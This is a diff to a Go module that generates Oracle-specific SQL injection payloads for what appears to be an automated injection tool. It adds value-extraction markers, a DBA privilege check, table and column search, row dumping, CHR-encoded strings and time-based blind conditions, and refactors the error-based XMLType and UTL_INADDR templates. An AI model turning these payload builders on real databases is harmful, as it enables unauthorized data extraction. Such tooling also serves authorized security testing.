@@ -38,6 +38,21 @@ func (o *Oracle) Char(code int) string {
 	return fmt.Sprintf("CHR(%d)", code)
 }
 
+// WrapWithMarkers returns CHR(126)||(query)||CHR(126).
+func (o *Oracle) WrapWithMarkers(query string) string {
+	return o.Concatenate(o.Char(126), "("+query+")", o.Char(126))
+}
+
+// WrapRowsWithMarkers aggregates the rows with LISTAGG ... ON OVERFLOW
+// TRUNCATE (Oracle 12.2 and later), which leaves a partial value past
+// 4000 bytes rather than fail. NULL concatenates as the empty string: the
+// CASE keeps NULL rows NULL for LISTAGG to skip, and an empty aggregate
+// needs no COALESCE.
+func (o *Oracle) WrapRowsWithMarkers(column, from string) string {
+	return fmt.Sprintf("CHR(126)||(SELECT COUNT(%s) FROM %s)||CHR(126)||(SELECT LISTAGG(CASE WHEN (%s) IS NOT NULL THEN (%s)||CHR(126) END) WITHIN GROUP (ORDER BY NULL) ON OVERFLOW TRUNCATE WITHOUT COUNT FROM %s)",
+		column, from, column, column, from)
+}
+
 func (o *Oracle) VersionQuery() string {
 	return "SELECT banner FROM v$version WHERE rownum=1"
 }
@@ -54,6 +69,10 @@ func (o *Oracle) HostnameQuery() string {
 	return "UTL_INADDR.GET_HOST_NAME"
 }
 
+func (o *Oracle) IsDBAQuery() string {
+	return "(SELECT COUNT(*) FROM user_role_privs WHERE granted_role='DBA')"
+}
+
 func (o *Oracle) ListDatabasesQuery() string {
 	// Oracle uses "schemas" rather than databases; list all non-system users
 	return "SELECT username FROM all_users ORDER BY username"
@@ -64,37 +83,40 @@ func (o *Oracle) ListTablesQuery(schema string) string {
 		return "SELECT table_name FROM user_tables ORDER BY table_name"
 	}
 	return fmt.Sprintf(
-		"SELECT table_name FROM all_tables WHERE owner='%s' ORDER BY table_name",
-		strings.ToUpper(schema),
+		"SELECT table_name FROM all_tables WHERE owner=%s ORDER BY table_name",
+		o.QuoteString(strings.ToUpper(schema)),
 	)
 }
 
 func (o *Oracle) ListColumnsQuery(schema, table string) string {
 	if schema == "" {
 		return fmt.Sprintf(
-			"SELECT column_name FROM user_tab_columns WHERE table_name='%s' ORDER BY column_id",
-			strings.ToUpper(table),
+			"SELECT column_name FROM user_tab_columns WHERE table_name=%s ORDER BY column_id",
+			o.QuoteString(strings.ToUpper(table)),
 		)
 	}
 	return fmt.Sprintf(
-		"SELECT column_name FROM all_tab_columns WHERE owner='%s' AND table_name='%s' ORDER BY column_id",
-		strings.ToUpper(schema), strings.ToUpper(table),
+		"SELECT column_name FROM all_tab_columns WHERE owner=%s AND table_name=%s ORDER BY column_id",
+		o.QuoteString(strings.ToUpper(schema)), o.QuoteString(strings.ToUpper(table)),
 	)
 }
 
+func (o *Oracle) SearchTablesQuery(keyword string) string {
+	return "SELECT owner||'.'||table_name FROM all_tables WHERE LOWER(table_name) LIKE " + containsPattern(o, keyword)
+}
+
+func (o *Oracle) SearchColumnsQuery(keyword string) string {
+	return "SELECT owner||'.'||table_name||'.'||column_name FROM all_tab_columns WHERE LOWER(column_name) LIKE " +
+		containsPattern(o, keyword)
+}
+
 func (o *Oracle) CountRowsQuery(schema, table string) string {
-	if schema == "" {
-		return fmt.Sprintf("SELECT COUNT(*) FROM %s", table)
-	}
-	return fmt.Sprintf("SELECT COUNT(*) FROM %s.%s", schema, table)
+	return "SELECT COUNT(*) FROM " + o.QualifyTable(schema, table)
 }
 
 func (o *Oracle) DumpQuery(schema, table string, columns []string, offset, limit int) string {
 	cols := strings.Join(columns, ",")
-	qualified := table
-	if schema != "" {
-		qualified = schema + "." + table
-	}
+	qualified := o.QualifyTable(schema, table)
 	// Oracle uses ROWNUM; wrap in subquery for offset + limit
 	return fmt.Sprintf(
 		"SELECT %s FROM (SELECT t.*,ROWNUM rn FROM %s t WHERE ROWNUM<=%d) WHERE rn>%d",
@@ -102,21 +124,27 @@ func (o *Oracle) DumpQuery(schema, table string, columns []string, offset, limit
 	)
 }
 
+// LimitOffset appends the OFFSET ... FETCH clause of Oracle 12c and later.
+// Older versions page with ROWNUM, which needs the selected column named.
+func (o *Oracle) LimitOffset(query string, offset, limit int) string {
+	return fmt.Sprintf("%s OFFSET %d ROWS FETCH NEXT %d ROWS ONLY", query, offset, limit)
+}
+
+// SelectRow numbers the rows with ROWNUM, which predates OFFSET ... FETCH.
+func (o *Oracle) SelectRow(column, from string, row int) string {
+	return fmt.Sprintf("SELECT v FROM (SELECT %s v,ROWNUM r FROM %s) WHERE r=%d", column, from, row+1)
+}
+
+// DualTable returns "dual": Oracle rejects a SELECT without FROM.
+func (o *Oracle) DualTable() string { return "dual" }
+
 func (o *Oracle) ErrorPayloads() []PayloadTemplate {
-	return []PayloadTemplate{
-		{
-			Name:     "xmltype",
-			Template: "XMLType('<x>'||({{.Query}})||'</x>')",
-			DBMS:     "Oracle",
-		},
-		{
-			Name:     "utl_inaddr",
-			Template: "UTL_INADDR.GET_HOST_ADDRESS(({{.Query}}))",
-			DBMS:     "Oracle",
-		},
-	}
+	return errorPayloadsFor("Oracle")
 }
 
+// ErrorChunkSize returns 0: values are not read in chunks on Oracle.
+func (o *Oracle) ErrorChunkSize() int { return 0 }
+
 // SleepFunction returns an Oracle heavyweight-query approximation for delay.
 // Oracle does not have a simple SLEEP() equivalent accessible without privileges.
 // DBMS_PIPE.RECEIVE_MESSAGE requires appropriate grants; fall back to heavy query.
@@ -132,6 +160,13 @@ func (o *Oracle) HeavyQuery() string {
 	return "SELECT COUNT(*) FROM all_objects A, all_objects B, all_objects C"
 }
 
+// SleepIf returns 1=(CASE WHEN (condition) THEN SleepFunction ELSE 1 END):
+// DBMS_PIPE.RECEIVE_MESSAGE returns 1 when it times out, so the condition
+// holds either way.
+func (o *Oracle) SleepIf(condition string, seconds int) string {
+	return fmt.Sprintf("1=(CASE WHEN (%s) THEN %s ELSE 1 END)", condition, o.SleepFunction(seconds))
+}
+
 func (o *Oracle) IfThenElse(condition, trueExpr, falseExpr string) string {
 	return fmt.Sprintf("CASE WHEN %s THEN %s ELSE %s END", condition, trueExpr, falseExpr)
 }
@@ -140,6 +175,35 @@ func (o *Oracle) QuoteString(s string) string {
 	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
 }
 
+// QuoteIdentifier wraps the name in double quotes, doubling embedded double
+// quotes. Quoted names are case-sensitive.
+func (o *Oracle) QuoteIdentifier(name string) string {
+	return `"` + strings.ReplaceAll(name, `"`, `""`) + `"`
+}
+
+// QualifyTable quotes the upper-cased table name, schema-qualified unless
+// schema is empty. Names are upper-cased as in the dictionary queries, so
+// names given in lower case match unquoted CREATE TABLE names.
+func (o *Oracle) QualifyTable(schema, table string) string {
+	if schema == "" {
+		return o.QuoteIdentifier(strings.ToUpper(table))
+	}
+	return o.QuoteIdentifier(strings.ToUpper(schema)) + "." + o.QuoteIdentifier(strings.ToUpper(table))
+}
+
+// HexString returns CharEncode(s): Oracle has no unquoted hex string literal.
+func (o *Oracle) HexString(s string) string {
+	return o.CharEncode(s)
+}
+
+// CharEncode returns s as CHR(c1)||CHR(c2)||... of its characters.
+func (o *Oracle) CharEncode(s string) string {
+	if s == "" {
+		return o.QuoteString(s)
+	}
+	return charCodes(s, "||", func(r rune) string { return o.Char(int(r)) })
+}
+
 func (o *Oracle) CommentSequence() string {
 	return "-- "
 }